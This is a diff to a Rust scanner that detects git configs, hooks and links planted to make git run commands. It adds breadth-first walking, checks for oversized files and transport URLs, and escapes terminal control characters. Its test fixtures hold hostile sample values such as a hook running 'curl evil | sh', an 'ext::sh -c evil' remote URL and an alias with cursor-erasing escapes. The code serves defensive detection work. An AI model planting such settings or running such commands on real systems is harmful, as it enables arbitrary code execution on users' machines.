@@ -9,12 +9,11 @@
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
-/// How deep and how many folders the walk goes per writable folder; what lies beyond is named
-/// as not looked at.
-const MAX_DEPTH: usize = 32;
-const MAX_FOLDERS: usize = 100_000;
-/// The largest file read (configs and hooks are small; a command is at the start).
-const MAX_FILE: u64 = 256 * 1024;
+/// How many folders the walk visits per writable folder; a larger tree is named as not seen
+/// whole.
+const MAX_FOLDERS: usize = 200_000;
+/// The largest file read whole (configs and hooks are small); a larger one is named as such.
+const MAX_FILE: u64 = 64 * 1024 * 1024;
 /// Folders inside a git folder that hold data, never commands.
 const GIT_DATA: &[&str] = &["objects", "refs", "logs", "lfs"];
 /// Git's files in a git folder that can send it elsewhere or make it run something.
@@ -24,7 +23,15 @@ const WATCHED: &[&str] = &["config", "config.worktree", "commondir", "gitdir"];
 #[derive(Clone, Debug, PartialEq, Eq)]
 enum Seen {
     Link(PathBuf),
-    File { mode: u32, bytes: Vec<u8> },
+    File {
+        mode: u32,
+        bytes: Vec<u8>,
+    },
+    /// Larger than `MAX_FILE`: not read (its length and modification time tell a change).
+    TooLarge {
+        len: u64,
+        modified: Option<std::time::SystemTime>,
+    },
 }
 
 /// Git's watched files under some folders at one time, and the folders too large to see whole.
@@ -34,15 +41,33 @@ pub struct GitSnapshot {
     partly_seen: Vec<PathBuf>,
 }
 
-/// Git's watched files under `folders` now.
+/// Git's watched files under `folders` now, breadth first (so a deep or wide tree cannot hide
+/// the shallow repositories), plus every file `known` names wherever the walk got to.
 pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
+    snapshot_with(folders, &GitSnapshot::default())
+}
+
+/// `snapshot`, reading again every file `before` held (a change to one is never missed for want
+/// of the walk reaching it).
+pub fn snapshot_again(folders: &[PathBuf], before: &GitSnapshot) -> GitSnapshot {
+    snapshot_with(folders, before)
+}
+
+fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
     let mut snapshot = GitSnapshot::default();
+    for path in known.files.keys() {
+        record(&mut snapshot.files, path);
+    }
     for folder in folders {
-        let mut stack: Vec<(PathBuf, usize)> = vec![(folder.clone(), 0)];
+        // Each writable folder's own repository first, whatever else the walk meets.
+        for name in WATCHED {
+            record(&mut snapshot.files, &folder.join(".git").join(name));
+        }
+        let mut queue = std::collections::VecDeque::from([folder.clone()]);
         let mut visited = 0;
-        while let Some((dir, depth)) = stack.pop() {
+        while let Some(dir) = queue.pop_front() {
             visited += 1;
-            if visited > MAX_FOLDERS || depth > MAX_DEPTH {
+            if visited > MAX_FOLDERS {
                 snapshot.partly_seen.push(folder.clone());
                 break;
             }
@@ -63,7 +88,7 @@ pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
                     // A worktree's or submodule's pointer to its git folder.
                     record(&mut snapshot.files, &entry.path());
                 } else if kind.is_dir() && !(is_git && GIT_DATA.iter().any(|s| name == *s)) {
-                    stack.push((entry.path(), depth + 1));
+                    queue.push_back(entry.path());
                 }
             }
         }
@@ -84,6 +109,9 @@ fn record(files: &mut BTreeMap<PathBuf, Seen>, path: &Path) {
     if meta.file_type().is_symlink() {
         let target = std::fs::read_link(path).unwrap_or_default();
         files.insert(path.to_owned(), Seen::Link(target));
+    } else if meta.is_file() && meta.len() > MAX_FILE {
+        let seen = Seen::TooLarge { len: meta.len(), modified: meta.modified().ok() };
+        files.insert(path.to_owned(), seen);
     } else if meta.is_file() {
         let mut bytes = Vec::new();
         // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
@@ -132,6 +160,9 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
         let shown = path.display();
         match seen {
             _ if in_hooks && name.ends_with(".sample") => {}
+            Seen::TooLarge { len, .. } => {
+                found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
+            }
             Seen::Link(target) => {
                 found.push(format!("{shown} is a link to {}", target.display()));
             }
@@ -147,7 +178,7 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
                     _ => Vec::new(),
                 };
                 for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
-                    if !inert(&key) && !old.contains(&(key.clone(), value.clone())) {
+                    if !inert(&key, &value) && !old.contains(&(key.clone(), value.clone())) {
                         found.push(format!("{shown} sets {key} = {value}"));
                     }
                 }
@@ -161,12 +192,26 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
     }
     for folder in &after.partly_seen {
         found.push(format!(
-            "{} holds more than {MAX_FOLDERS} folders (or deeper than {MAX_DEPTH}): only part of \
-             it was looked at",
+            "{} holds more than {MAX_FOLDERS} folders: only part of it was looked at, so treat \
+             every repository in it as untrusted",
             folder.display()
         ));
     }
-    found
+    found.iter().map(|line| visible(line)).collect()
+}
+
+/// `text` with every control character shown as an escape (`\x1b`), so that what a lock wrote
+/// cannot move the cursor, erase its own report or set a title where the report is shown.
+pub fn visible(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if c.is_control() {
+            out.extend(c.escape_default());
+        } else {
+            out.push(c);
+        }
+    }
+    out
 }
 
 /// A hook's first line that is not its interpreter line or a comment, shortened.
@@ -193,14 +238,16 @@ fn settings(text: &str) -> Vec<(String, String)> {
     let mut section = String::new();
     let mut found = Vec::new();
     for line in text.lines().map(str::trim) {
-        if let Some(header) = line.strip_prefix('[').and_then(|l| l.split(']').next()) {
+        let mut line = line;
+        if let Some((header, rest)) = line.strip_prefix('[').and_then(|l| l.split_once(']')) {
             let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
             let sub = sub.trim().trim_matches('"');
             section = match sub.is_empty() {
-                true => name.to_lowercase(),
+                true => name.trim().to_lowercase(),
                 false => format!("{}.{sub}", name.to_lowercase()),
             };
-            continue;
+            // Git reads a setting on the header's own line too: `[core] fsmonitor = …`.
+            line = rest.trim();
         }
         if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
             continue;
@@ -213,8 +260,12 @@ fn settings(text: &str) -> Vec<(String, String)> {
     found
 }
 
-/// Settings known to make git run nothing and send it nowhere new; any other is named.
-fn inert(key: &str) -> bool {
+/// Settings known to make git run nothing and send it nowhere new; any other is named. A URL
+/// with a transport (`ext::sh -c …`, `helper::…`) runs a program, so it is not inert.
+fn inert(key: &str, value: &str) -> bool {
+    if value.contains("::") {
+        return false;
+    }
     const INERT: &[&str] = &[
         "core.repositoryformatversion",
         "core.filemode",
@@ -282,9 +333,17 @@ mod tests {
         executable(&deep.join("hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n");
         std::os::unix::fs::symlink("/bin/true", deep.join("hooks/pre-commit")).expect("link");
         let config = "[core]\n\tbare = false\n\tfsmonitor = ./x.sh\n[user]\n\temail = a@b\n\
-                      [pager]\n\tlog = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n";
+                      [pager] log = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n\
+                      [remote \"e\"]\n\turl = ext::sh -c evil\n\
+                      [alias]\n\tx = !printf '\\033[2K'\x1b[1A\n";
         std::fs::write(deep.join("config"), config).expect("config");
-        let found = planted(&before, &snapshot(std::slice::from_ref(&dir)));
+        // A folder far deeper than any repository does not hide the ones above it.
+        let mut far = dir.join("zz");
+        for _ in 0..40 {
+            far.push("d");
+        }
+        std::fs::create_dir_all(&far).expect("deep folders");
+        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
         let d = deep.display();
         assert_eq!(
             found,
@@ -293,6 +352,8 @@ mod tests {
                 format!("{d}/config sets core.fsmonitor = ./x.sh"),
                 format!("{d}/config sets pager.log = ./evil"),
                 format!("{d}/config sets remote.o.uploadpack = ./evil"),
+                format!("{d}/config sets remote.e.url = ext::sh -c evil"),
+                format!("{d}/config sets alias.x = !printf '\\033[2K'\\u{{1b}}[1A"),
                 format!("{d}/hooks/post-checkout runs curl evil | sh"),
                 format!("{d}/hooks/pre-commit is a link to /bin/true"),
             ]
